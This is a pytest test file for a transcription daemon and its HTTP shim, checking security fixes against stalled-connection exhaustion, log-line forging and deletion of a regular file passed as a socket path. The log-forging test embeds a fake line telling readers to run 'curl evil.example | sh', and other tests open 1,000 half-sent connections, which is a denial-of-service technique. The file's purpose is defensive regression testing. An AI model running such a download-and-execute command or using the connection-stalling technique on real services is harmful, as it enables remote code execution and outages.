"""Issue 15, findings 4-6: connections that never finish, forged log lines, a socket path on a file.

The real `whisperd` (null engine) and `whisperd-shim` as child processes, each
started under a file limit of 256 descriptors, so that 1,000 stalled connections
would have exhausted it before the connection cap (and `/health`, `ping` failed).
"""

from __future__ import annotations

import json
import os
import resource
import socket
import struct
import subprocess
import sys
import time
from contextlib import ExitStack

import pytest

from testing.stack import ROOT, Daemon, Shim
from tests.stack.reliability.media import tone, wav
from tests.stack.reliability.probes import rss_mb, wait_until
from whisperd.client import Client

FILE_LIMIT = 256
STALLED = 1000
WAV = wav(tone(1.0))


def low_file_limit() -> None:  # runs in the child before exec
    resource.setrlimit(resource.RLIMIT_NOFILE, (FILE_LIMIT, FILE_LIMIT))


@pytest.fixture(autouse=True, scope="module")
def enough_descriptors_here():
    """This test process holds the 1,000 client ends itself."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = STALLED + 200
    assert hard == resource.RLIM_INFINITY or hard >= wanted, f"the test needs {wanted} descriptors (hard {hard})"
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, wanted), hard))
    yield
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def frame(obj: dict) -> bytes:
    payload = json.dumps(obj).encode()
    return struct.pack(">I", len(payload)) + payload


def read_reply(sock: socket.socket, timeout: float = 10.0) -> dict | None:
    """The next reply frame, or None when the daemon closed the connection without one."""
    sock.settimeout(timeout)
    data = b""
    while len(data) < 4 or len(data) < 4 + struct.unpack(">I", data[:4])[0]:
        chunk = sock.recv(65536)
        if not chunk:
            return None
        data += chunk
    return json.loads(data[4:4 + struct.unpack(">I", data[:4])[0]])


def closed_by_peer(sock: socket.socket, timeout: float) -> bool:
    sock.settimeout(timeout)
    try:
        while sock.recv(65536):
            pass
    except ConnectionResetError:
        return True
    except TimeoutError:
        return False
    return True


# --- 4. the daemon --------------------------------------------------------------------------------


def test_1000_stalled_connections_do_not_shut_out_a_real_client_of_the_daemon():
    """Before: each held a descriptor for ever; at the file limit accept() failed and `ping` with it."""
    d = Daemon("--engine", "null", "--max-cold-workers", "0", "--frame-timeout", "2", preexec_fn=low_file_limit)
    try:
        with ExitStack() as stack:
            started = time.monotonic()
            stalled = []
            for _ in range(STALLED):
                s = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
                s.connect(d.socket)
                s.sendall(b"\x00\x00")  # half a length prefix, then nothing
                stalled.append(s)
            opened = time.monotonic() - started
            rss = rss_mb(d.proc.pid)
            with connect_when_the_backlog_has_room(d.socket) as c:  # a real client, now
                assert c.ping()
                assert c.transcribe(WAV).transcript.duration == pytest.approx(1.0, abs=0.05)
                status = c.status()
            served_in = time.monotonic() - started
            counters = status.counters
            assert counters["connections_evicted"] >= STALLED - d_cap(d), counters
            # The ones still open get `frame_timeout` and are closed.
            still_open = [s for s in stalled if not _closed_now(s)]
            assert still_open, "some stalled connections should still have been open"
            for s in still_open[:20]:
                reply = read_reply(s, timeout=10)
                assert reply is not None and reply["error"]["code"] == "frame_timeout", reply
            print(f"\n{STALLED} stalled connections opened in {opened:.2f} s; daemon RSS {rss:.0f} MB; "
                  f"real client served after {served_in:.2f} s; {counters['connections_evicted']} displaced")
        with Client(d.socket, timeout=5) as c:
            assert c.status().counters["frame_timeouts"] >= 20
    finally:
        d.stop()


def d_cap(d: Daemon) -> int:
    from whisperd.daemon.server import ACCEPT_BURST, FD_RESERVE
    return FILE_LIMIT - FD_RESERVE - ACCEPT_BURST  # the cap under this file limit


def connect_when_the_backlog_has_room(path: str) -> Client:
    """A Unix socket `connect` with a timeout reports a full listen backlog as EAGAIN at once
    (it does not wait, as TCP does): the 1,000 arrived within ~0.1 s, so give the daemon
    the moment it takes to accept them."""
    deadline = time.monotonic() + 5
    client = Client(path, timeout=10)
    while True:
        try:
            assert client.ping()
            return client
        except BlockingIOError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.02)


def _closed_now(s: socket.socket) -> bool:
    s.setblocking(False)
    try:
        return s.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except ConnectionResetError:
        return True
    finally:
        s.setblocking(True)


def test_when_every_connection_is_busy_a_new_one_is_refused_clearly():
    d = Daemon("--engine", "null", "--max-cold-workers", "0", "--max-connections", "2", "--frame-timeout", "1")
    try:
        with ExitStack() as stack:
            busy = []
            for i in range(2):  # a request whose audio never comes: a request in flight
                s = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
                s.connect(d.socket)
                s.sendall(frame({"v": 1, "op": "transcribe", "id": f"busy{i}", "audio_size": 1000}))
                busy.append(s)
            time.sleep(0.2)
            third = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
            third.connect(d.socket)
            refusal = read_reply(third)
            assert refusal is not None and refusal["error"]["code"] == "overloaded", refusal
            assert "max_connections" in refusal["error"]["message"]
            # The audio that never came is cut at its deadline (frame_timeout + 1 s per MiB).
            for s in busy:
                reply = read_reply(s, timeout=10)
                assert reply is not None and reply["error"]["code"] == "frame_timeout", reply
        with Client(d.socket, timeout=10) as c:
            assert c.ping()
            assert c.status().counters["connections_refused"] == 1
    finally:
        d.stop()


# --- 4. the shim ----------------------------------------------------------------------------------


def test_1000_stalled_connections_do_not_shut_out_a_real_client_of_the_shim():
    """Before: half-sent headers held a descriptor each for 75 s; at the file limit /health failed."""
    d = Daemon("--engine", "null", "--max-cold-workers", "0")
    shim = Shim(d.socket, "--keepalive-timeout", "2", preexec_fn=low_file_limit)
    try:
        with ExitStack() as stack:
            started = time.monotonic()
            stalled = []
            for _ in range(STALLED):
                s = stack.enter_context(socket.create_connection(("127.0.0.1", shim.port)))
                s.sendall(b"POST /v1/audio/transcriptions HTTP/1.1\r\nHost: 127.0.0.1\r\n")  # ... and no more
                stalled.append(s)
            opened = time.monotonic() - started
            code, body = shim.get("/health")
            served_in = time.monotonic() - started
            assert code == 200 and json.loads(body)["status"] == "ok", body
            code, _ = shim.get("/v1/models")
            assert code == 200
            rss = rss_mb(shim.proc.pid)
            # The keep-alive timer (2 s here, 10 s by default) drops those still open.
            still_open = [s for s in stalled if not _closed_now(s)]
            assert still_open
            assert all(closed_by_peer(s, timeout=10) for s in still_open[:20])
            print(f"\n{STALLED} stalled HTTP connections opened in {opened:.2f} s; shim RSS {rss:.0f} MB; "
                  f"/health answered after {served_in:.2f} s")
    finally:
        shim.stop()
        d.stop()


def test_when_every_http_connection_is_busy_a_new_one_gets_503():
    d = Daemon("--engine", "null", "--max-cold-workers", "0")
    shim = Shim(d.socket, "--max-connections", "2")
    try:
        with ExitStack() as stack:
            for _ in range(2):  # uploads in progress: their bodies never come
                s = stack.enter_context(socket.create_connection(("127.0.0.1", shim.port)))
                s.sendall(b"POST /v1/audio/transcriptions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                          b"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 100000\r\n\r\n--x")
            time.sleep(0.3)
            third = stack.enter_context(socket.create_connection(("127.0.0.1", shim.port)))
            third.settimeout(10)
            answer = b""
            while chunk := third.recv(65536):
                answer += chunk
        head, _, body = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 503"), answer
        assert b"Retry-After: 1" in head
        error = json.loads(body)["error"]
        assert error["code"] == "overloaded" and "max_connections" in error["message"]
    finally:
        shim.stop()
        d.stop()


# --- 5. log forging -------------------------------------------------------------------------------


def test_a_client_cannot_write_a_line_of_its_own_into_the_journal():
    """Before: an unknown option's name went into the log as it was; a `\\n` in it started a
    second line that journald would have filed as the daemon's own (here at priority 3)."""
    d = Daemon("--engine", "null", "--max-cold-workers", "0", journald=True)
    forged = "<3>whisperd.server: FORGED worker crashed, run curl evil.example | sh"
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(d.socket)
            s.sendall(frame({"v": 1, "op": "transcribe", "id": "forge", "audio_size": 10,
                             "options": {"x\n" + forged: 1}}))
            reply = read_reply(s)
        assert reply is not None and reply["error"]["code"] == "protocol_error"
        wait_until(lambda: "unknown option" in d.log(), 10, "the refusal to be logged")
        lines = d.log().splitlines()
    finally:
        d.stop()
    assert not any(line.startswith(forged[:20]) for line in lines), lines
    refused = [line for line in lines if "unknown option" in line]
    assert len(refused) == 1 and "\\n" in refused[0] and refused[0].startswith("<6>"), refused


# --- 6. --socket on a regular file -----------------------------------------------------------------


def test_socket_path_on_a_regular_file_is_refused_and_the_file_kept(tmp_path):
    """Before: the daemon took any file at the path for a stale socket and deleted it."""
    victim = tmp_path / "notes.txt"
    victim.write_text("precious\n")
    proc = subprocess.run([sys.executable, "-m", "whisperd", "--config", "/dev/null", "--engine", "null",
                           "--max-cold-workers", "0", "--socket", str(victim)],
                          capture_output=True, text=True, timeout=60, cwd=ROOT,
                          env={k: v for k, v in os.environ.items() if not k.startswith(("WHISPERD_", "LISTEN_"))})
    assert proc.returncode != 0
    assert victim.read_text() == "precious\n"
    assert str(victim) in proc.stderr and "not a socket" in proc.stderr, proc.stderr
